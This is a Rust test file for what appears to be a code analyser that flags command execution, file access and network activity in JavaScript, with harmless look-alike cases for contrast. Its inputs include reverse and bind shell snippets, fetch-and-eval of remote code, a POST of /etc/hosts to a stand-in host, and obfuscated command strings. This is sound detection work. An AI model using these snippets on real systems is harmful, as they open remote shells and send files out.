//! JavaScript.

use super::check;
use aegish_profiles::Lang::Node;

#[test]
fn commands_are_found_in_every_spelling() {
    check(
        Node,
        &[
            ("require('child_process').exec('id')", &["shell id"]),
            ("require(\"child_process\")[\"exec\"](\"id\")", &["shell id"]),
            ("require('node:child_process').execSync(`id`)", &["shell id"]),
            ("const {execSync:x} = require('child_process'); x('id')", &["shell id"]),
            (
                "const { exec, spawn } = require('child_process')\nspawn('ls', ['-l'])",
                &["argv ls|-l"],
            ),
            (
                "const cp = require('child_process');\ncp.spawnSync('sh', ['-c', 'id'], {stdio: 'inherit'})",
                &["argv sh|-c|id"],
            ),
            ("import {execSync as x} from 'child_process'; x('id')", &["shell id"]),
            (
                "import cp from \"node:child_process\"\ncp.execFileSync('ls', ['-a'])",
                &["argv ls|-a"],
            ),
            ("import * as cp from 'child_process'; cp.exec('id')", &["shell id"]),
            ("import('child_process').then(m => m.exec('id'))", &["shell id"]),
            ("process.mainModule.require('child_process').exec('id')", &["shell id"]),
            ("global.process.mainModule.require('child_process').execSync('id')", &["shell id"]),
            ("require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})", &["argv /bin/sh"]),
            ("require('child_process').spawn('ls -l', {shell: true})", &["shell ls -l"]),
            ("const c = 'i' + 'd'; require('child_process').exec(c)", &["shell id"]),
            (
                "const d='/etc'; require('child_process').exec(`cat ${d}/hosts`)",
                &["shell cat /etc/hosts"],
            ),
            (
                "require('child_process').execSync(Buffer.from('756e616d65','hex').toString())",
                &["shell uname"],
            ),
            (
                "require('child_process').exec(Buffer.from('dW5hbWU=', 'base64').toString('utf8'))",
                &["shell uname"],
            ),
            ("eval(atob('MSsx'))", &["eval node 1+1"]),
            ("require('child_process').exec(String.fromCharCode(105,100))", &["shell id"]),
            (
                "require('child_process').exec([105,100].map(c => String.fromCharCode(c)).join(''))",
                &["shell id"],
            ),
            ("require('child_process').exec('di'.split('').reverse().join(''))", &["shell id"]),
            ("new Function('return 1')()", &["eval node return 1"]),
            ("Function('a', 'return a')(1)", &["eval node return a"]),
            ("require('vm').runInThisContext('1+1')", &["eval node 1+1"]),
            ("require('child_process').exec(process.env.TARGET)", &["shell /srv/data.bin"]),
            ("require('child_process').exec(process.argv[1])", &["shell first-arg"]),
            ("require('./lib/x')", &["script node ./lib/x"]),
            ("require('/srv/evil.node')", &["load /srv/evil.node"]),
            ("function r(c) { require('child_process').exec(c) }\nr('id')", &["shell id"]),
            ("const r = c => require('child_process').exec(c);\nr('id')", &["shell id"]),
            (
                "['id','who'].forEach(c => require('child_process').execSync(c))",
                &["shell {id|who}"],
            ),
            ("process.setuid(0); require('child_process').exec('id')", &["user 0", "shell id"]),
            ("process.dlopen(module, './x.node')", &["load ./x.node"]),
            ("Deno.run({cmd: ['id', '-u']})", &["argv id|-u"]),
            ("new Deno.Command('id', {args: ['-u']})", &["argv id|-u"]),
            ("Bun.spawn(['id', '-u'])", &["argv id|-u"]),
            ("exec('/bin/sh -c id')", &["argv /bin/sh|-c|id"]),
            (
                "Java.type('java.lang.Runtime').getRuntime().exec('/bin/sh -c id').waitFor()",
                &["argv /bin/sh|-c|id"],
            ),
            ("var p = new java.lang.ProcessBuilder('/bin/sh', '-i').start()", &["argv /bin/sh|-i"]),
        ],
    );
}

#[test]
fn files_and_connections() {
    check(
        Node,
        &[
            ("console.log(require('fs').readFileSync('/etc/hosts', 'utf8'))", &["read /etc/hosts"]),
            (
                "const fs=require('fs'); fs.writeFileSync('/tmp/x', 'DATA')",
                &["write /tmp/x <- DATA"],
            ),
            ("require('fs').appendFileSync('/tmp/x', 'DATA')", &["append /tmp/x <- DATA"]),
            ("require('fs').rmSync('/srv/x', {recursive: true, force: true})", &["tree /srv/x"]),
            ("require('fs').unlinkSync('/srv/x')", &["delete /srv/x"]),
            ("require('fs').chmodSync('/tmp/x', 0o4755)", &["mode 4755 /tmp/x"]),
            (
                "import {promises as fs} from 'fs'; await fs.readFile('/etc/hosts')",
                &["read /etc/hosts"],
            ),
            (
                "sh = require(\"child_process\").spawn(\"/bin/sh\");\nrequire(\"net\").connect(process.env.PORT, process.env.PEER, function () {\n  this.pipe(sh.stdin);\n  sh.stdout.pipe(this);\n})",
                &["argv /bin/sh", "connect peer.example 7001", "attach"],
            ),
            (
                "var n=require('net'),s=require('child_process').spawn('sh',[]);var c=new n.Socket();c.connect(99,'h.example',function(){c.pipe(s.stdin);s.stdout.pipe(c)})",
                &["argv sh", "connect h.example 99", "attach"],
            ),
            (
                "sh = require('child_process').spawn('/bin/sh');\nrequire('net').createServer(function (client) {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n}).listen(9009)",
                &["argv /bin/sh", "attach", "listen  9009"],
            ),
            (
                "require('net').connect(99,'h.example').on('data', d => require('child_process').exec(d.toString()))",
                &["connect h.example 99", "received"],
            ),
            (
                "require('http').get('http://h.example/x', r => r.pipe(require('fs').createWriteStream('/tmp/x')))",
                &["fetch http://h.example/x", "write /tmp/x <- ‹received›"],
            ),
            (
                "require('fs').createReadStream('/etc/hosts').pipe(require('http').request('http://h.example/u'))",
                &["read /etc/hosts", "send http://h.example/u <- /etc/hosts"],
            ),
            (
                "fetch('http://h.example/x').then(r => r.text()).then(t => eval(t))",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "fetch('http://h.example/x', {method: 'POST', body: require('fs').readFileSync('/etc/hosts')})",
                &["read /etc/hosts", "send http://h.example/x <- /etc/hosts"],
            ),
            (
                "const r = await fetch('http://h.example/x'); eval(await r.text())",
                &["fetch http://h.example/x", "received"],
            ),
            ("cp('http://h.example/x','/tmp/x')", &["fetch http://h.example/x -> /tmp/x"]),
            (
                "var fw=new java.io.FileWriter('/tmp/x'); fw.write('DATA'); fw.close()",
                &["write /tmp/x <- DATA"],
            ),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check(
        Node,
        &[
            (
                "console.log(\"require('child_process').exec('rm')\")",
                &["print require('child_process').exec('rm')\n"],
            ),
            ("// exec('rm')", &[]),
            ("/* eval(x) */ console.log(1)", &["print 1\n"]),
            (
                "console.log(JSON.parse(require('fs').readFileSync('package.json')).version)",
                &["read package.json"],
            ),
            ("const m = /exec\\((.*)\\)/.exec(line)", &[]),
            ("require('lodash').map([1], x => x)", &[]),
            ("const path = require('path'); console.log(path.join('a','b'))", &["print a/b\n"]),
            ("process.stdin.on('data', d => console.log(d.length))", &[]),
            ("const o = {exec: 1, eval: 'x'}; o.exec", &[]),
            ("class A { exec(x) { return x } }", &[]),
            ("let x = a / b / c; y = 'exec'", &[]),
            ("console.log(process.version)", &[]),
            (
                "sh = require('child_process').spawn('ls'); sh.stdout.pipe(process.stdout)",
                &["argv ls"],
            ),
        ],
    );
}
